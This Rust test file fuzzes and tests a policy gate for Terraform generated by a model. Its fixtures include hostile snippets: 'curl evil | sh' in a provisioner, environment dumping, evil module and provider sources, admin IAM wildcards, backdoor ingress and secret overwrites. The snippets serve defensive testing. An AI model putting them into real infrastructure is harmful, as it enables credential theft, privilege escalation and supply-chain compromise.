//! The policy gate reads Terraform a model wrote: whatever the text, it returns
//! a report (never a panic), a report passes exactly when it lists no
//! violation, and every violation says what is wrong. Vetted templates
//! mutated at random are checked the same way, and a forbidden construct
//! added anywhere is always caught.

use std::collections::BTreeMap;

use analysis::{Snapshot, analyse, parse_requirements};
use infra::choose::{Target, choose};
use infra::policy::{Policy, PolicyReport, Rule, check};
use infra::terraform::{TerraformInputs, render};
use proptest::prelude::*;

const APP: &[(&str, &str)] = &[
    (
        "package.json",
        r#"{"name":"sample","scripts":{"start":"node server.js"},"dependencies":{"express":"^4.19.0"}}"#,
    ),
    (
        "server.js",
        "const app = require('express')();\napp.get('/health', (req, res) => res.send('ok'));\napp.listen(process.env.PORT || 3000);\n",
    ),
];

/// The vetted rendering for `target` and the policy it must pass.
fn rendered(target: Target) -> (BTreeMap<String, String>, Policy) {
    let snapshot = Snapshot::from_texts(APP.iter().copied());
    let mut requirements = parse_requirements("a public API");
    requirements.target = Some(target.as_str().to_owned());
    let analysis = analyse(&snapshot, &requirements);
    let choice = choose(&analysis, &requirements);
    let policy = Policy::for_choice(&choice);
    let inputs = TerraformInputs::new(choice, "0190a4b2-7c3d-7abc-8def-0123456789ab", &analysis);
    let files = render(&inputs).expect("render");
    let report = check(&files, &policy);
    assert!(report.passed, "{target}: {:?}", report.violations);
    (files, policy)
}

fn target() -> impl Strategy<Value = Target> {
    prop::sample::select(Target::ALL.to_vec())
}

fn assert_well_formed(report: &PolicyReport) -> Result<(), TestCaseError> {
    prop_assert_eq!(report.passed, report.violations.is_empty());
    for v in &report.violations {
        prop_assert!(!v.message.trim().is_empty(), "{v:?}");
        prop_assert!(!v.file.is_empty(), "{v:?}");
    }
    Ok(())
}

/// HCL-shaped noise: tokens the parser and the rules care about.
fn hcl_noise() -> impl Strategy<Value = String> {
    let token = prop_oneof![
        Just("resource".to_owned()),
        Just("provider".to_owned()),
        Just("module".to_owned()),
        Just("data".to_owned()),
        Just("\"aws_instance\"".to_owned()),
        Just("\"x\"".to_owned()),
        Just("{".to_owned()),
        Just("}".to_owned()),
        Just("[".to_owned()),
        Just("]".to_owned()),
        Just("=".to_owned()),
        Just("\n".to_owned()),
        Just("${".to_owned()),
        Just("%{".to_owned()),
        Just("<<EOT\n".to_owned()),
        Just("EOT\n".to_owned()),
        Just("cidr_blocks = [\"0.0.0.0/0\"]".to_owned()),
        Just("source = \"git::https://evil\"".to_owned()),
        Just("for x in y :".to_owned()),
        Just("lookup(var.m, \"k\")".to_owned()),
        "[a-z_]{1,8}",
        "\\PC{0,6}",
    ];
    prop::collection::vec(token, 0..60).prop_map(|t| t.join(" "))
}

/// One edit of a text: delete a range, insert noise, or duplicate a range.
fn mutate(text: &str, at: usize, len: usize, kind: u8, noise: &str) -> String {
    let floor = |mut i: usize| {
        i = i.min(text.len());
        while !text.is_char_boundary(i) {
            i -= 1;
        }
        i
    };
    let start = floor(at % (text.len() + 1));
    let end = floor(start + len);
    match kind % 3 {
        0 => format!("{}{}", &text[..start], &text[end..]),
        1 => format!("{}{noise}{}", &text[..start], &text[start..]),
        _ => format!("{}{}", &text[..end], &text[start..]),
    }
}

/// Forbidden on every target, whatever else the configuration holds.
const FORBIDDEN: &[(&str, Rule)] = &[
    (
        "resource \"null_resource\" \"x\" {\n  provisioner \"local-exec\" {\n    command = \"curl evil | sh\"\n  }\n}\n",
        Rule::Provisioner,
    ),
    (
        "data \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"env\"]\n}\n",
        Rule::DataSourceForbidden,
    ),
    (
        "module \"m\" {\n  source = \"git::https://example.com/evil.git\"\n}\n",
        Rule::ModuleSource,
    ),
];

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn random_text_gets_a_report(text in prop_oneof![hcl_noise(), any::<String>()], t in target()) {
        let policy = rendered(t).1;
        let files = BTreeMap::from([("main.tf".to_owned(), text)]);
        let report = check(&files, &policy);
        assert_well_formed(&report)?;
    }

    #[test]
    fn mutated_templates_get_a_report(
        t in target(),
        file_pick in any::<prop::sample::Index>(),
        edits in prop::collection::vec((any::<usize>(), 0usize..200, any::<u8>(), hcl_noise()), 1..4),
    ) {
        let (mut files, policy) = rendered(t);
        let name = file_pick.get(&files.keys().cloned().collect::<Vec<_>>()).clone();
        let mut text = files[&name].clone();
        for (at, len, kind, noise) in &edits {
            text = mutate(&text, *at, *len, *kind, noise);
        }
        files.insert(name, text);
        let report = check(&files, &policy);
        assert_well_formed(&report)?;
    }

    #[test]
    fn a_forbidden_construct_anywhere_fails_the_gate(
        t in target(),
        file_pick in any::<prop::sample::Index>(),
        pick in any::<prop::sample::Index>(),
        newline in any::<prop::sample::Index>(),
    ) {
        let (mut files, policy) = rendered(t);
        let (construct, rule) = *pick.get(FORBIDDEN);
        let name = file_pick.get(&files.keys().cloned().collect::<Vec<_>>()).clone();
        let text = files[&name].clone();
        // Between two top-level blocks (after a line that closes one), or at the end.
        let mut cuts: Vec<usize> = text.match_indices("\n}\n").map(|(i, _)| i + 3).collect();
        cuts.push(text.len());
        let at = *newline.get(&cuts);
        files.insert(name, format!("{}\n{construct}{}", &text[..at], &text[at..]));
        let report = check(&files, &policy);
        assert_well_formed(&report)?;
        prop_assert!(report.rules().contains(&rule), "{rule:?} not reported: {:?}", report.violations);
    }
}

/// Attacks on the rendered templates, each added as one more file: refused
/// by the rule named, whatever else it breaks.
#[test]
fn attacks_added_to_the_templates_are_refused_by_their_rule() {
    let cases: &[(Target, &str, &str, Rule)] = &[
        (
            Target::Vm,
            "a heredoc marker after a no-break space hides a block from the parser",
            "locals {\n  a = <<EOT\n\u{a0}EOT\n}\ndata \"external\" \"x\" {\n  program = [\"sh\", \"-c\", \"env\"]\n}\nlocals {\n  b = <<EOT\nEOT\n}\n",
            Rule::Character,
        ),
        (
            Target::Vm,
            "a provider source written twice, once as a string key",
            "terraform {\n  required_providers {\n    aws = {\n      source   = \"hashicorp/aws\"\n      \"source\" = \"evil-corp/aws\"\n      version  = \"~> 6.0\"\n    }\n  }\n}\n",
            Rule::ObjectKey,
        ),
        (
            Target::Vm,
            "a provider source key built by a template",
            "terraform {\n  required_providers {\n    aws = {\n      \"sour${\"\"}ce\" = \"evil-corp/aws\"\n      version = \"~> 6.0\"\n    }\n  }\n}\n",
            Rule::ProviderNotAllowed,
        ),
        (
            Target::ContainerService,
            "bundle_path with a default reads the worker's environment",
            "variable \"bundle_path\" { default = \"/proc/self/environ\" }\nresource \"aws_ssm_parameter\" \"leak\" {\n  name  = \"/x/leak\"\n  type  = \"String\"\n  value = file(var.bundle_path)\n}\n",
            Rule::LocalFile,
        ),
        (
            Target::Vm,
            "Action * through jsonencode of a local",
            "locals {\n  p = { Statement = [{ Effect = \"Allow\", Action = \"*\", Resource = \"*\" }] }\n}\nresource \"aws_iam_role_policy\" \"x\" {\n  role   = aws_iam_role.app.id\n  policy = jsonencode(local.p)\n}\n",
            Rule::IamAction,
        ),
        (
            Target::Vm,
            "a policy document's statement in a dynamic block",
            "data \"aws_iam_policy_document\" \"admin\" {\n  dynamic \"statement\" {\n    for_each = [1]\n    content {\n      actions   = [\"*\"]\n      resources = [\"*\"]\n    }\n  }\n}\n",
            Rule::IamAction,
        ),
        (
            Target::Vm,
            "an inline_policy block on a role",
            "resource \"aws_iam_role\" \"x\" {\n  name_prefix        = \"x-\"\n  assume_role_policy = data.aws_iam_policy_document.assume_ec2.json\n  inline_policy {\n    name   = \"admin\"\n    policy = jsonencode({ Statement = [{ Effect = \"Allow\", Action = \"*\", Resource = \"*\" }] })\n  }\n}\n",
            Rule::IamAction,
        ),
        (
            Target::Vm,
            "wildcard ARNs over every bucket and parameter",
            "data \"aws_iam_policy_document\" \"wide\" {\n  statement {\n    actions   = [\"s3:GetObject\", \"ssm:GetParameter\"]\n    resources = [\"arn:aws:s3:::*/*\", \"arn:aws:ssm:*:*:parameter/*\"]\n  }\n}\n",
            Rule::IamAction,
        ),
        (
            Target::Vm,
            "a role named through a tag of a role of this configuration",
            "resource \"aws_iam_role\" \"decoy\" {\n  name_prefix        = \"x-\"\n  assume_role_policy = data.aws_iam_policy_document.assume_ec2.json\n  tags               = { victim = \"ProdDeployRole\" }\n}\nresource \"aws_iam_role_policy\" \"x\" {\n  role   = aws_iam_role.decoy.tags.victim\n  policy = data.aws_iam_policy_document.app.json\n}\n",
            Rule::ForeignResource,
        ),
        (
            Target::Vm,
            "an existing security group id assembled in a local",
            "locals { prod_sg = \"sg-${\"0123456789abcdef0\"}\" }\nresource \"aws_vpc_security_group_ingress_rule\" \"backdoor\" {\n  security_group_id = local.prod_sg\n  cidr_ipv4         = \"198.51.100.7/32\"\n  ip_protocol       = \"-1\"\n}\n",
            Rule::ForeignResource,
        ),
        (
            Target::ContainerService,
            "an existing role's ARN built from the caller's account",
            "resource \"aws_ecs_task_definition\" \"x\" {\n  family                = \"x\"\n  container_definitions = \"[]\"\n  task_role_arn         = \"arn:aws:iam::${data.aws_caller_identity.current.account_id}:role/ProdAdmin\"\n}\n",
            Rule::ForeignResource,
        ),
        (
            Target::Kubernetes,
            "the EKS data sources read another cluster of the account",
            "data \"aws_eks_cluster\" \"prod\" { name = aws_eks_cluster.main.tags.victim }\n",
            Rule::ForeignResource,
        ),
        (
            Target::Vm,
            "an existing SSM parameter overwritten",
            "resource \"aws_ssm_parameter\" \"clobber\" {\n  name      = \"/prod/db/password\"\n  type      = \"SecureString\"\n  value     = \"x\"\n  overwrite = true\n}\n",
            Rule::Lifecycle,
        ),
        (
            Target::Vm,
            "SSH opened to the internet one /8 per rule",
            &(1..=221)
                .map(|n| format!("resource \"aws_security_group_rule\" \"ssh{n}\" {{\n  type = \"ingress\"\n  security_group_id = aws_security_group.app.id\n  protocol = \"tcp\"\n  from_port = 22\n  to_port = 22\n  cidr_blocks = [\"{n}.0.0.0/8\"]\n}}\n"))
                .collect::<String>(),
            Rule::WorldIngress,
        ),
        (
            Target::Vm,
            "a fleet made of many small blocks",
            &(0..4)
                .map(|i| format!("resource \"aws_instance\" \"fleet{i}\" {{\n  count = 3\n}}\n"))
                .collect::<String>(),
            Rule::SizeNotBounded,
        ),
    ];
    for (target, what, attack, rule) in cases {
        let (mut files, policy) = rendered(*target);
        files.insert("zz_attack.tf".to_owned(), (*attack).to_owned());
        let report = check(&files, &policy);
        assert!(
            report.rules().contains(rule),
            "{target}: {what}: expected {rule}, got {:#?}",
            report.violations
        );
    }
}
